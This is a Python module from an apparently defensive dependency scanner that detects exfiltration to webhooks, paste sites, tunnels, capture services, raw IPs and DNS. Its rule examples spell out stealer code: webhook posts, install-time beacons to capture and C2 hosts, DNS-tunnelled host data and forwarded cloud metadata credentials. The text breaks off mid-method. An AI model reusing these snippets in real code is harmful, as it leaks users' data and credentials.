"""Exfiltration and command and control: where data leaves the machine, and to whom.

A destination matters when data is sent to it (or fetched from it): a chat webhook that carries
its own credentials, a paste or file-drop site, a tunnel, a request-capture service or a raw public
IP address that reaches the URL argument of a network call, a curl command, or a DNS lookup. A
mention of the same host in a docstring, a comment, a validation regex or a list of known hosts
is not exfiltration and is never looked at.

The static "skeleton" of an expression (``StaticText``) is its text with every part that cannot
be known statically replaced by ``UNKNOWN``: ``f"https://{x}.gofile.io/upload"`` becomes
``"https://\\x00.gofile.io/upload"``, enough to know the host without knowing the data.
"""

from __future__ import annotations

import ast
import ipaddress
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import ClassVar

from depvet.analysis.capabilities import DNS_LOOKUPS, PATH_JOINERS
from depvet.analysis.decode import PROCESS_NAMES
from depvet.analysis.detector import Cap, Detector, PyContext, TextContext, hint_index
from depvet.analysis.detectors.credentials import METADATA_HOSTS
from depvet.analysis.files import FileKind
from depvet.analysis.pyfacts import CallSite, Scope, ScopeKind
from depvet.model import Category, Severity
from depvet.rules import Example, Rule

UNKNOWN = "\x00"
_MAX_SKELETON = 8192
_MAX_DEPTH = 10

# -- static text of expressions ------------------------------------------------------------


_IDENTITY = frozenset(
    {
        "os.path.expanduser",
        "os.path.expandvars",
        "os.path.abspath",
        "os.path.normpath",
        "os.path.realpath",
        "os.path.normcase",
        "posixpath.expanduser",
        "ntpath.expanduser",
        "ntpath.expandvars",
        "ntpath.abspath",
        "os.fspath",
        "builtins.str",
        "urllib.request.Request",
        "urllib2.Request",
    }
)
_PATH_CLASSES = frozenset(
    {"Path", "PurePath", "PosixPath", "WindowsPath", "PurePosixPath", "PureWindowsPath"}
)
_IDENTITY_METHODS = frozenset(
    {"expanduser", "resolve", "absolute", "strip", "rstrip", "lstrip", "expandvars"}
)
_SITE_DIRS = frozenset(
    {
        "site.getsitepackages",
        "site.getusersitepackages",
        "sysconfig.get_path",
        "sysconfig.get_paths",
        "distutils.sysconfig.get_python_lib",
        "sysconfig.get_python_lib",
        "distutils.sysconfig_get_python_lib",
    }
)
_SITE_ATTRS = frozenset({"site.USER_SITE", "site.PREFIXES"})
SITE_DIR = "<site-packages>"
_ENV_HOME = frozenset({"HOME", "USERPROFILE"})
_FORMAT_FIELD = re.compile(r"\{[^{}]*\}")
_PERCENT_FIELD = re.compile(r"%(?:\([^)]*\))?[-#0 +]*\d*(?:\.\d+)?[sdrifxXeEgGc]")


class StaticText:
    """Skeletons of expressions of one module, cached: known text with unknown parts marked."""

    def __init__(self, ctx: PyContext) -> None:
        self.ctx = ctx
        self._cache: dict[int, str] = {}
        self._active: set[int] = set()
        self._attr_assigns: dict[str, list[ast.expr]] | None = None

    def of(self, node: ast.expr, depth: int = 0) -> str:
        key = id(node)
        cached = self._cache.get(key)
        if cached is not None:
            return cached
        if depth > _MAX_DEPTH or key in self._active:
            return UNKNOWN
        self._active.add(key)
        try:
            text = self._skeleton(node, depth)
        finally:
            self._active.discard(key)
        text = text[:_MAX_SKELETON]
        self._cache[key] = text
        return text

    def _skeleton(self, node: ast.expr, depth: int) -> str:  # noqa: C901 - a dispatch
        if isinstance(node, ast.Constant):
            value = node.value
            if isinstance(value, str):
                return value
            if isinstance(value, bytes):
                return value.decode("latin-1")
            if isinstance(value, int | float) and not isinstance(value, bool):
                return str(value)
            return UNKNOWN
        if isinstance(node, ast.Name):
            if node.id == "__file__":
                return "<this-file>"
            return self._name(node, depth)
        if isinstance(node, ast.JoinedStr):
            return "".join(self._formatted(part, depth) for part in node.values)
        if isinstance(node, ast.BinOp):
            return self._binop(node, depth)
        if isinstance(node, ast.List | ast.Tuple | ast.Set):
            return " ".join(self.of(e, depth + 1) for e in node.elts[:64])
        if isinstance(node, ast.IfExp):
            return self.of(node.body, depth + 1)
        if isinstance(node, ast.BoolOp):
            for operand in node.values:
                text = self.of(operand, depth + 1)
                if text != UNKNOWN:
                    return text
            return UNKNOWN
        if isinstance(node, ast.Attribute):
            return self._attribute(node, depth)
        if isinstance(node, ast.Subscript):
            return self._subscript(node, depth)
        if isinstance(node, ast.Call):
            return self._call(node, depth)
        if isinstance(node, ast.Await):
            return self.of(node.value, depth + 1)
        return UNKNOWN

    def _static(self, node: ast.expr) -> str | None:
        try:
            return self.ctx.text_value(node)
        except RecursionError:
            return None

    def _name(self, node: ast.Name, depth: int) -> str:
        static = self._static(node)
        if static is not None:
            return static
        bound = self.ctx.facts.binding(node.id, getattr(node, "lineno", 1 << 30))
        if bound is None:
            return UNKNOWN
        return self.of(bound, depth + 1)

    def _formatted(self, part: ast.expr, depth: int) -> str:
        if isinstance(part, ast.Constant) and isinstance(part.value, str):
            return part.value
        if isinstance(part, ast.FormattedValue):
            return self.of(part.value, depth + 1)
        return UNKNOWN

    def _binop(self, node: ast.BinOp, depth: int) -> str:
        if isinstance(node.op, ast.Add):
            static = self._static(node)
            if static is not None:
                return static
            return self.of(node.left, depth + 1) + self.of(node.right, depth + 1)
        if isinstance(node.op, ast.Div):
            return self.of(node.left, depth + 1) + "/" + self.of(node.right, depth + 1)
        if isinstance(node.op, ast.Mod):
            static = self._static(node)
            if static is not None:
                return static
            template = self.of(node.left, depth + 1)
            right = node.right
            values = list(right.elts) if isinstance(right, ast.Tuple) else [right]
            parts = iter(values)

            def fill(_match: re.Match[str]) -> str:
                value = next(parts, None)
                return UNKNOWN if value is None else self.of(value, depth + 1)

            return _PERCENT_FIELD.sub(fill, template)
        return UNKNOWN

    def _attribute(self, node: ast.Attribute, depth: int) -> str:
        name = self.ctx.facts_resolve(node) or ""
        if name == "sys.executable":
            return "<python>"
        if name in _SITE_ATTRS:
            return SITE_DIR
        if name in ("os.sep", "os.path.sep"):
            return "/"
        if isinstance(node.value, ast.Name) and node.value.id in ("self", "cls"):
            for value in self._attr_values(f"{node.value.id}.{node.attr}"):
                text = self.of(value, depth + 1)
                if text != UNKNOWN:
                    return text
        static = self._static(node)
        return static if static is not None else UNKNOWN

    def _attr_values(self, dotted_name: str) -> list[ast.expr]:
        if self._attr_assigns is None:
            table: dict[str, list[ast.expr]] = {}
            for scope in self.ctx.facts.scopes:
                for names, value in scope.assigns:
                    if len(names) == 2 and "." in names[1]:
                        table.setdefault(names[1], []).append(value)
            self._attr_assigns = table
        return self._attr_assigns.get(dotted_name, [])

    def _subscript(self, node: ast.Subscript, depth: int) -> str:
        base = self.ctx.facts_resolve(node.value) if not isinstance(node.value, ast.Call) else None
        key = node.slice
        if base == "os.environ" and isinstance(key, ast.Constant) and isinstance(key.value, str):
            return _env(key.value)
        if base == "sys.argv":
            return "<argv>"
        if isinstance(node.value, ast.Call) and self._call_name(node.value) in _SITE_DIRS:
            return SITE_DIR
        static = self._static(node)
        if static is not None:
            return static
        inner = node.value
        if isinstance(inner, ast.Name):
            bound = self.ctx.facts.binding(inner.id, getattr(inner, "lineno", 1 << 30))
            if isinstance(bound, ast.Call) and self._call_name(bound) in _SITE_DIRS:
                return SITE_DIR
        return UNKNOWN

    def _call_name(self, node: ast.Call) -> str:
        return self.ctx.facts_resolve(node.func) or ""

    def _call(self, node: ast.Call, depth: int) -> str:  # noqa: C901 - a dispatch
        name = self._call_name(node)
        args = node.args
        if name in PATH_JOINERS or name.endswith(".path.join") or _last(name) in _PATH_CLASSES:
            if not args:
                return "."
            return "/".join(self.of(a, depth + 1) for a in args[:16])
        if name in _IDENTITY:
            return self.of(args[0], depth + 1) if args else UNKNOWN
        if name in _SITE_DIRS:
            return SITE_DIR
        if name in ("os.getenv", "os.environ.get", "os.environ.__getitem__"):
            if args and isinstance(args[0], ast.Constant) and isinstance(args[0].value, str):
                return _env(args[0].value)
            return UNKNOWN
        if name in ("pathlib.Path.home", "Path.home", "os.path.expanduser.home"):
            return "~"
        if name in ("tempfile.gettempdir", "tempfile.mkdtemp"):
            return "<tmp>"
        if name in ("os.getcwd", "pathlib.Path.cwd"):
            return "<cwd>"
        func = node.func
        if isinstance(func, ast.Attribute):
            attr = func.attr
            if attr == "home" and not args:
                return "~"
            if attr == "joinpath":
                return "/".join([self.of(func.value, depth + 1), *(self.of(a, depth + 1) for a in args[:16])])
            if attr in _IDENTITY_METHODS and not args:
                return self.of(func.value, depth + 1)
            if attr in ("getsitepackages", "getusersitepackages", "get_python_lib"):
                return SITE_DIR
            if attr == "format":
                return self._format(node, func.value, depth)
            if attr == "join" and len(args) == 1 and isinstance(args[0], ast.List | ast.Tuple):
                sep = self._static(func.value)
                if sep is not None:
                    return sep.join(self.of(e, depth + 1) for e in args[0].elts[:64])
            if attr == "replace" and len(args) == 2:
                old, new = self._static(args[0]), self._static(args[1])
                if old is not None and new is not None and old:
                    return self.of(func.value, depth + 1).replace(old, new)
        static = self._static(node)
        return static if static is not None else UNKNOWN

    def _format(self, node: ast.Call, template_node: ast.expr, depth: int) -> str:
        static = self._static(node)
        if static is not None:
            return static
        template = self.of(template_node, depth + 1)
        positional = iter(node.args)
        keywords = {k.arg: k.value for k in node.keywords if k.arg}

        def fill(match: re.Match[str]) -> str:
            field = match.group(0)[1:-1].split(":", 1)[0].split("!", 1)[0]
            value: ast.expr | None
            if field and not field.isdigit():
                value = keywords.get(field.split(".", 1)[0].split("[", 1)[0])
            elif field.isdigit():
                index = int(field)
                value = node.args[index] if index < len(node.args) else None
            else:
                value = next(positional, None)
            return UNKNOWN if value is None else self.of(value, depth + 1)

        return _FORMAT_FIELD.sub(fill, template)


def _env(name: str) -> str:
    return "~" if name.upper() in _ENV_HOME else f"%{name.upper()}%"


def normalise_path(text: str) -> str:
    """A skeleton as a comparable path: forward slashes, lower case, no doubled separators."""
    text = text.replace("\\", "/").lower()
    while "//" in text:
        text = text.replace("//", "/")
    return text


# -- destinations ----------------------------------------------------------------------------


class Dest:
    """Kinds of destination, from the most specific."""

    WEBHOOK = "chat webhook"
    CAPTURE = "request-capture service"
    TUNNEL = "tunnel"
    PASTE = "paste site"
    FILEDROP = "file-drop site"
    RAW_IP = "raw public IP"


_WEBHOOKS = (
    (
        "Discord webhook",
        re.compile(r"(?i)discord(?:app)?\.com/api/(?:v\d{1,2}/)?webhooks/\d{5,25}/[\w-]{20,120}"),
    ),
    (
        "Slack webhook",
        re.compile(r"(?i)hooks\.slack\.com/(?:services|workflows|triggers)/\w{1,24}/\w{1,24}/\w{1,48}"),
    ),
    (
        "Telegram bot API",
        re.compile(r"(?i)api\.telegram\.org/bot\d{5,12}:[\w-]{20,60}/\w{3,40}"),
    ),
)
_SERVICE_DOMAINS: dict[str, tuple[str, ...]] = {
    Dest.CAPTURE: (
        "pipedream.net",
        "requestbin.net",
        "requestbin.com",
        "requestcatcher.com",
        "webhook.site",
        "interact.sh",
        "oast.fun",
        "oast.pro",
        "oast.live",
        "oast.site",
        "oast.online",
        "oast.me",
        "oastify.com",
        "burpcollaborator.net",
        "ceye.io",
        "dnslog.cn",
        "dnslog.link",
        "canarytokens.com",
        "beeceptor.com",
        "hookbin.com",
        "postb.in",
        "ptsv2.com",
        "ptsv3.com",
        "requestinspector.com",
        "xss.ht",
    ),
    Dest.TUNNEL: (
        "ngrok.io",
        "ngrok.app",
        "ngrok.dev",
        "ngrok-free.app",
        "ngrok-free.dev",
        "trycloudflare.com",
        "serveo.net",
        "serveousercontent.com",
        "loca.lt",
        "localtunnel.me",
        "localhost.run",
        "lhr.life",
        "lhr.rocks",
        "bore.pub",
        "pinggy.link",
        "pinggy.online",
        "loclx.io",
        "tunnelmole.net",
    ),
    Dest.PASTE: (
        "pastebin.com",
        "paste.ee",
        "hastebin.com",
        "hastebin.skyra.pw",
        "ghostbin.com",
        "ghostbin.co",
        "paste.fo",
        "rentry.co",
        "rentry.org",
        "dpaste.com",
        "dpaste.org",
        "controlc.com",
        "pastie.org",
        "termbin.com",
        "ix.io",
        "sprunge.us",
        "paste.rs",
        "privatebin.net",
        "justpaste.it",
        "pastes.io",
        "paste2.org",
    ),
    Dest.FILEDROP: (
        "transfer.sh",
        "file.io",
        "anonfiles.com",
        "anonfile.com",
        "bayfiles.com",
        "gofile.io",
        "catbox.moe",
        "0x0.st",
        "temp.sh",
        "ufile.io",
        "bashupload.com",
        "filebin.net",
        "tmpfiles.org",
        "uguu.se",
        "oshi.at",
        "pixeldrain.com",
        "files.catbox.moe",
        "litterbox.catbox.moe",
    ),
}
_DOMAIN_KIND = {domain: kind for kind, domains in _SERVICE_DOMAINS.items() for domain in domains}
# A host candidate: dotted labels ending in a TLD, in a URL or standing alone. Skeletons and
# single lines only; whole texts are scanned for "://host" (_URL_HOST) instead.
_HOST = re.compile(
    r"(?i)(?:^|(?<=://)|(?<=[\s\"'(@=,]))((?:[a-z0-9\x00_-]{1,63}\.){1,8}[a-z]{2,24})(?=[:/?#\s\"'\\),;]|$)"
)
_URL_HOST = re.compile(r"://(?:[^\s/@\"'<>]{0,64}@)?([A-Za-z0-9._-]{1,253})")
_IP_URL = re.compile(r"(?i)\b(?:https?|ftp|tcp|udp|wss?)://(\d{1,3}(?:\.\d{1,3}){3})(?::(\d{1,5}))?")
_BARE_IP = re.compile(r"^\s*(\d{1,3}(?:\.\d{1,3}){3})\s*$")
# Public resolvers: connecting to them (to learn the local address) is a common idiom.
_PUBLIC_RESOLVERS = frozenset(
    {
        "8.8.8.8",
        "8.8.4.4",
        "1.1.1.1",
        "1.0.0.1",
        "9.9.9.9",
        "149.112.112.112",
        "208.67.222.222",
        "208.67.220.220",
    }
)


@dataclass(frozen=True, slots=True)
class Destination:
    kind: str
    what: str  # the service, host or webhook kind
    data_in_url: bool = False


def public_ip(text: str) -> bool:
    try:
        address = ipaddress.ip_address(text)
    except ValueError:
        return False
    return address.is_global and text not in _PUBLIC_RESOLVERS


def _service(host: str) -> str | None:
    host = host.lower().rstrip(".")
    labels = host.split(".")
    for start in range(len(labels) - 1):
        candidate = ".".join(labels[start:])
        if candidate in _DOMAIN_KIND:
            return candidate
    return None


def destinations(text: str) -> list[Destination]:
    """Exfiltration-grade destinations named in a (skeleton) URL, host or command."""
    if not text or len(text) > _MAX_SKELETON:
        return []
    found: list[Destination] = []
    for what, pattern in _WEBHOOKS:
        if pattern.search(text):
            found.append(Destination(Dest.WEBHOOK, what))
    if found:
        return found
    for match in _HOST.finditer(text):
        host = match.group(1)
        domain = _service(host)
        if domain is None:
            continue
        rest = text[match.end(1) :]
        query = "?" in rest and UNKNOWN in rest.split("?", 1)[1]
        data = UNKNOWN in host or query
        kind = _DOMAIN_KIND[domain]
        if kind in (Dest.CAPTURE, Dest.TUNNEL):
            data = data or UNKNOWN in rest
        found.append(Destination(kind, domain, data))
    for match in _IP_URL.finditer(text):
        if public_ip(match.group(1)):
            rest = text[match.end() :]
            found.append(
                Destination(Dest.RAW_IP, match.group(0).split("://", 1)[1], UNKNOWN in rest.split("?", 1)[-1])
            )
    bare = _BARE_IP.match(text)
    if bare and public_ip(bare.group(1)):
        found.append(Destination(Dest.RAW_IP, bare.group(1)))
    return found


# -- rules -------------------------------------------------------------------------------------

_REFS_DISCORD = (
    "https://blog.phylum.io/phylum-discovers-another-attack-on-pypi/",
    "https://www.fortinet.com/blog/threat-research/supply-chain-attack-using-identical-pypi-packages-colorslib-httpslib-libhttps",
)

WEBHOOK_SEND = Rule(
    id="DV401",
    name="chat-webhook-exfiltration",
    title="Data is sent to a hard-coded Discord, Slack or Telegram webhook",
    severity=Severity.CRITICAL,
    category=Category.EXFILTRATION,
    description=(
        "A Discord or Slack webhook URL, or a Telegram bot API URL, complete with its secret id and "
        "token, reaches a network call, a webhook client or a curl command. Whoever holds that URL "
        "reads everything posted to it, so a package that ships one and posts to it reports to its "
        "author's chat channel: token stealers (W4SP, Creal, Hazard and their clones) exfiltrate "
        "browser passwords, Discord tokens and host details this way. Client libraries post to URLs "
        "their users configure, never to one written in the package."
    ),
    bad=Example(
        path="colorsx/__init__.py",
        code=(
            "import os, requests\n"
            "HOOK = 'https://discord.com/api/webhooks/1106140538584965150/"
            "2RA5wfu1MnGXi69SeG7OuRxS1MpvaUBdeqi3vNXxkwj05ychECkHcF9RqvZG'\n"
            "requests.post(HOOK, json={'content': os.getlogin()})\n"
        ),
    ),
    good=Example(
        path="chatkit/webhook.py",
        code=(
            "import requests\n"
            "WEBHOOK_RE = (r'discord(?:app)?\\.com/api/webhooks/'\n"
            "              r'(?P<id>[0-9]{17,20})/(?P<token>[\\w-]{60,})')\n\n"
            "def send(url, content):\n"
            "    '''Post to https://discord.com/api/webhooks/<id>/<token>.'''\n"
            "    return requests.post(url, json={'content': content})\n"
        ),
    ),
    false_positives=(
        "A tool that posts notifications to its own team channel with a webhook written in the code; "
        "in a function nobody calls automatically the finding is high, not critical."
    ),
    references=_REFS_DISCORD,
)
AUTO_SEND = Rule(
    id="DV402",
    name="install-time-exfil-endpoint",
    title="Code that runs on install or import sends data to an exfiltration endpoint",
    severity=Severity.CRITICAL,
    category=Category.EXFILTRATION,
    description=(
        "Code that runs by itself (setup.py, module level, a .pth line) posts or uploads data to a paste "
        "site, an anonymous file-drop, a tunnel (ngrok, trycloudflare...), a request-capture service "
        "(Burp Collaborator, interact.sh / oast.*, pipedream, webhook.site) or a raw public IP address, "
        "or calls a request-capture host at all. Such hosts exist to receive data from machines their "
        "owner does not control; dependency-confusion probes and stealers use them to collect the host "
        "name, user, environment and files of everyone who installs the package."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import getpass, socket, requests\nfrom setuptools import setup\n"
            "requests.get('https://cd3erga2vtc0000zbam0ggtzqp.oast.fun', "
            "params={'h': socket.gethostname(), 'u': getpass.getuser()})\n"
            "setup(name='internal-utils')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "from setuptools import setup\n"
            "# report issues at https://pastebin.com or webhook.site when debugging\n"
            "setup(name='x', url='https://example.org', project_urls={'Paste': 'https://paste.ee'})\n"
        ),
    ),
    false_positives=(
        "None known: libraries contact such hosts only when asked to, never on install or import."
    ),
    references=(
        "https://blog.phylum.io/pypi-malware-replaces-crypto-addresses-in-developers-clipboard/",
        "https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610",
    ),
)
AUTO_FETCH = Rule(
    id="DV403",
    name="install-time-c2-fetch",
    title="Code that runs on install or import fetches from a paste site, tunnel or raw IP",
    severity=Severity.HIGH,
    category=Category.EXFILTRATION,
    description=(
        "Code that runs by itself downloads from a paste site, a file-drop, a tunnel or a raw public IP "
        "address (`http://83.142.209.203:8080/ringtone.wav` in Telnyx 4.87.1). Nothing a library needs "
        "at install or import time lives there; it is where second stages and commands are kept, "
        "because the author can change them after the package is published."
    ),
    bad=Example(
        path="telnyxlite/_client.py",
        code=(
            "import urllib.request\n"
            "_w = urllib.request.urlopen('http://83.142.209.203:8080/ringtone.wav', timeout=15).read()\n"
        ),
    ),
    good=Example(
        path="telnyxlite/_client.py",
        code=(
            "import urllib.request\n\n"
            "def fetch(url='http://10.0.0.5:8080/ringtone.wav'):\n"
            "    return urllib.request.urlopen(url, timeout=15).read()\n"
        ),
    ),
    false_positives="Packages that fetch data from a fixed IP address at import time (rare and fragile).",
    references=(
        "https://blog.pypi.org/posts/2026-04-02-incident-report-litellm-telnyx-supply-chain-attack/",
    ),
)
CALLED_ENDPOINT = Rule(
    id="DV404",
    name="exfil-endpoint-in-function",
    title="A function contacts a paste site, file-drop, tunnel, capture host or raw IP",
    severity=Severity.MEDIUM,
    category=Category.EXFILTRATION,
    description=(
        "A function that nothing runs automatically sends data to, or downloads from, a paste site, "
        "a file-drop, a tunnel, a request-capture service or a raw public IP address. Paste-site "
        "clients and tunnel helpers do this on request, so this alone is medium; stealers whose "
        "entry point is a console script or a function reached in ways depvet cannot follow look the "
        "same, and the finding adds to their other ones."
    ),
    bad=Example(
        path="pasty/upload.py",
        code=(
            "import requests\n\n"
            "def backup(path):\n"
            "    return requests.post('https://transfer.sh/', files={'file': open(path, 'rb')}).text\n"
        ),
    ),
    good=Example(
        path="pasty/upload.py",
        code=(
            "import requests\n\n"
            "def backup(path, server='https://files.example.org/upload'):\n"
            "    return requests.post(server, files={'file': open(path, 'rb')}).text\n"
        ),
    ),
    false_positives="Clients of paste and file-sharing services; tunnel managers (pyngrok).",
    context_weighted=False,
)
DNS_COMPUTED = Rule(
    id="DV405",
    name="dns-computed-name-lookup",
    title="A DNS lookup of a host name built from data under a fixed domain",
    severity=Severity.HIGH,
    category=Category.EXFILTRATION,
    description=(
        "A DNS lookup (`socket.gethostbyname`, `getaddrinfo`, dnspython, `nslookup`/`dig`) asks for "
        "a name made of variable data in front of a fixed domain: `data + '.attacker.tld'`. The query "
        "itself carries the data to the domain's name server, through every firewall that lets DNS "
        "out; torchtriton (2022) sent host name, user and files to *.h4ck.cfd this way."
    ),
    bad=Example(
        path="corp_sso/__init__.py",
        code=(
            "import os, socket\n"
            "user = os.environ.get('USER', 'x')\n"
            "socket.gethostbyname(user + '.' + os.uname()[1] + '.beacon.attacker.cfd')\n"
        ),
    ),
    good=Example(
        path="corp_sso/__init__.py",
        code=(
            "import socket\n\n"
            "def lookup(host):\n"
            "    return socket.gethostbyname(host)\n\n"
            "ADDR = socket.gethostbyname('localhost')\n"
        ),
    ),
    false_positives=(
        "DNS blocklist checks (reversed IP + '.zen.spamhaus.org') and service discovery names built "
        "from configuration; in functions nobody calls automatically the finding is medium."
    ),
    references=("https://pytorch.org/blog/compromised-nightly-dependency/",),
)
DNS_ENCODED = Rule(
    id="DV406",
    name="dns-encoded-exfiltration",
    title="Data is encoded into DNS labels and looked up (DNS tunnelling)",
    severity=Severity.CRITICAL,
    category=Category.EXFILTRATION,
    description=(
        "A DNS lookup asks for a name whose labels are base32, base64 or hex encodings of data, "
        "under a fixed domain. Encoding data so that it survives as a host name has one purpose: to "
        "smuggle it out through DNS queries (torchtriton sent hex-encoded files to *.h4ck.cfd; "
        "dependency-confusion probes send base32 host details to Burp Collaborator)."
    ),
    bad=Example(
        path="corp_sso/__init__.py",
        code=(
            "import base64, os, dns.resolver\n"
            "label = base64.b32encode(os.uname().nodename.encode()).decode().strip('=').lower()\n"
            "dns.resolver.resolve(label[:60] + '.x.collector-sink.com', 'A')\n"
        ),
    ),
    good=Example(
        path="corp_sso/__init__.py",
        code=(
            "import base64, dns.resolver\n"
            "TOKEN = base64.b32encode(b'client').decode()\n"
            "ANSWER = dns.resolver.resolve('sso.example.com', 'A')\n"
        ),
    ),
    false_positives="None known outside DNS tunnelling tools.",
    references=("https://pytorch.org/blog/compromised-nightly-dependency/",),
)
SOCKET_SEND = Rule(
    id="DV407",
    name="raw-socket-to-fixed-host",
    title="A raw socket to a hard-coded external host sends data",
    severity=Severity.HIGH,
    category=Category.EXFILTRATION,
    description=(
        "A TCP or UDP socket is connected to a host and port written in the code (not localhost or a "
        "private network) and data is sent on it. Libraries speak to servers their users name; a fixed "
        "external endpoint with a hand-made protocol is how beacons, reverse shells and simple stealers "
        "reach their controller."
    ),
    bad=Example(
        path="setup.py",
        code=(
            "import socket, platform\nfrom setuptools import setup\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
            "s.connect(('c2.evil-updates.net', 4444))\n"
            "s.sendall(platform.node().encode())\n"
            "setup(name='x')\n"
        ),
    ),
    good=Example(
        path="setup.py",
        code=(
            "import socket\nfrom setuptools import setup\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "s.connect(('8.8.8.8', 80))\n"
            "LOCAL_IP = s.getsockname()[0]\n"
            "setup(name='x')\n"
        ),
    ),
    false_positives=(
        "Protocol clients with a well-known default server (whois on port 43, NTP); in functions nobody "
        "calls automatically the finding is medium."
    ),
)
METADATA_RELAY = Rule(
    id="DV408",
    name="cloud-metadata-relay",
    title="A cloud metadata response is sent on to another host",
    severity=Severity.CRITICAL,
    category=Category.EXFILTRATION,
    description=(
        "Data fetched from a cloud instance metadata endpoint (169.254.169.254, 169.254.170.2, "
        "metadata.google.internal) reaches the payload of a request to some other host. The metadata "
        "service hands out the machine's temporary cloud credentials; SDKs use them to sign requests, "
        "they never forward the response itself. Forwarding it is credential theft (LiteLLM 1.82.8)."
    ),
    bad=Example(
        path="cost_report/metrics.py",
        code=(
            "import requests\n"
            "base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
            "role = requests.get(base, timeout=2).text\n"
            "creds = requests.get(base + role, timeout=2).json()\n"
            "requests.post('https://collector.cost-insights.example/v1/ingest', json=creds)\n"
        ),
    ),
    good=Example(
        path="cost_report/metrics.py",
        code=(
            "import requests\n\n"
            "def region():\n"
            "    doc = requests.get('http://169.254.169.254/latest/dynamic/instance-identity/document').json()\n"
            "    return doc['region']\n"
        ),
    ),
    false_positives="None known.",
    references=(
        "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
        "https://docs.litellm.ai/blog/security-update-march-2026",
    ),
)

# -- what counts as a network call ----------------------------------------------------------------

_NET_PREFIXES = (
    "requests.",
    "httpx.",
    "urllib.",
    "urllib2.",
    "urllib3.",
    "aiohttp.",
    "http.client.",
    "httplib.",
    "pycurl.",
    "websocket.",
    "websockets.",
    "wget.",
    "socket.",
    "dns.",
    "discord_webhook.",
    "dhooks.",
    "discordwebhook.",
    "slack_sdk.webhook.",
    "telebot.",
)
_SEND_VERBS = frozenset(
    {
        "post",
        "put",
        "patch",
        "send",
        "sendall",
        "sendto",
        "send_message",
        "send_document",
        "send_photo",
        "send_file",
        "sendMessage",
        "sendDocument",
        "upload",
        "upload_file",
        "storbinary",
        "storlines",
        "sendmail",
    }
)
_FETCH_VERBS = frozenset(
    {
        "get",
        "head",
        "request",
        "urlopen",
        "urlretrieve",
        "retrieve",
        "fetch",
        "download",
        "stream",
        "delete",
        "open_url",
        "ws_connect",
        "create_connection",
    }
)
# Clients that exist to post to the URL they are built with.
_WEBHOOK_CLIENTS = frozenset(
    {
        "DiscordWebhook",
        "Webhook",
        "SyncWebhook",
        "AsyncWebhook",
        "WebhookClient",
        "AsyncWebhookClient",
        "IncomingWebhook",
        "from_url",
        "Discord",
        "DiscordWebhooks",
    }
)
_CLIENT_BUILDERS = frozenset(
    {"Request", "HTTPConnection", "HTTPSConnection", "PoolManager", "connection_from_url"}
)
_DATA_KWARGS = frozenset(
    {
        "data",
        "json",
        "files",
        "params",
        "content",
        "body",
        "embeds",
        "embed",
        "file",
        "fields",
        "message",
        "text",
    }
)
_URL_KWARGS = frozenset(
    {"url", "uri", "webhook_url", "endpoint", "webhook", "host", "address", "server", "hook"}
)
_HTTP_METHODS = frozenset({"GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS"})
_DNS_EXTRA = frozenset(
    {"dns.message.make_query", "dns.resolver.Resolver.resolve", "dns.resolver.Resolver.query"}
)
_ENCODERS = frozenset(
    {
        "base64.b32encode",
        "base64.b32hexencode",
        "base64.b64encode",
        "base64.urlsafe_b64encode",
        "base64.b16encode",
        "base64.b85encode",
        "base64.standard_b64encode",
        "base64.encodebytes",
        "binascii.hexlify",
        "binascii.b2a_hex",
        "binascii.b2a_base64",
    }
)
# A fixed domain after the data: ".attacker.tld" (at least two labels, a letter TLD).
_DNS_SUFFIX = re.compile(r"\x00[^\x00]*?((?:\.[a-z0-9_-]{1,63}){2,8})\.?$", re.IGNORECASE)
_LOCAL_SUFFIXES = (
    ".local",
    ".internal",
    ".localhost",
    ".lan",
    ".arpa",
    ".svc",
    ".home",
    ".corp",
    ".localdomain",
    ".test",
    ".example",
    ".invalid",
    ".cluster.local",
)
# Compared with hosts named in scanned code, never bound to.
_LOCAL_HOSTS = (
    "localhost",
    "127.",
    "0.0.0.0",  # noqa: S104
    "::1",
    "10.",
    "192.168.",
    "172.16.",
    "169.254.",
)


@dataclass(slots=True)
class NetCall:
    call: CallSite
    kind: str  # "http", "process", "dns", "socket", "webhook-client", "wrapper"
    urls: list[ast.expr]
    send: bool
    loose: bool = False  # recognised by its method name only: its URL must carry a scheme


def _last(name: str | None) -> str:
    return (name or "").rsplit(".", 1)[-1]


def _literal_method(node: ast.expr) -> str | None:
    if isinstance(node, ast.Constant) and isinstance(node.value, str) and node.value.upper() in _HTTP_METHODS:
        return node.value.upper()
    return None


class _Network:
    """Finds the network calls of a module and the expressions naming where they go."""

    def __init__(self, ctx: PyContext, text: StaticText) -> None:
        self.ctx = ctx
        self.text = text
        self.marked = {
            id(m.node) for m in ctx.module_marks if m.cap in (Cap.NETWORK_SEND, Cap.NETWORK_FETCH) and m.node
        }
        self.dns_module = any(v == "dns" or v.startswith("dns.") for v in ctx.facts.aliases.values())
        self.wrappers: dict[str, tuple[int, bool]] = {}

    def calls(self) -> Iterator[NetCall]:
        direct: list[NetCall] = []
        for call in self.ctx.facts.calls:
            found = self.classify(call)
            if found is not None:
                direct.append(found)
        self._find_wrappers(direct)
        yield from direct
        if self.wrappers:
            for call in self.ctx.facts.calls:
                func = call.node.func
                if isinstance(func, ast.Name) and func.id in self.wrappers:
                    index, send = self.wrappers[func.id]
                    if index < len(call.node.args):
                        yield NetCall(call, "wrapper", [call.node.args[index]], send or _has_data(call))

    def classify(self, call: CallSite) -> NetCall | None:
        name = call.name or ""
        attr = call.attr
        last = _last(name) if name else (attr or "")
        node = call.node
        args = node.args
        if name in PROCESS_NAMES:
            return NetCall(call, "process", list(args[:1]), False) if args else None
        if name in DNS_LOOKUPS or name in _DNS_EXTRA or self._dns_method(call):
            target = args[0] if args else self.ctx.kwarg(call, "qname") or self.ctx.kwarg(call, "host")
            return NetCall(call, "dns", [target], True) if target is not None else None
        if name in ("socket.create_connection",) or (
            attr in ("connect", "connect_ex") and self._socket(call)
        ):
            return NetCall(call, "socket", list(args[:1]), False) if args else None
        if attr == "sendto" and len(args) >= 2 and self._socket(call):
            return NetCall(call, "socket", [args[1]], True)
        if last in _WEBHOOK_CLIENTS:
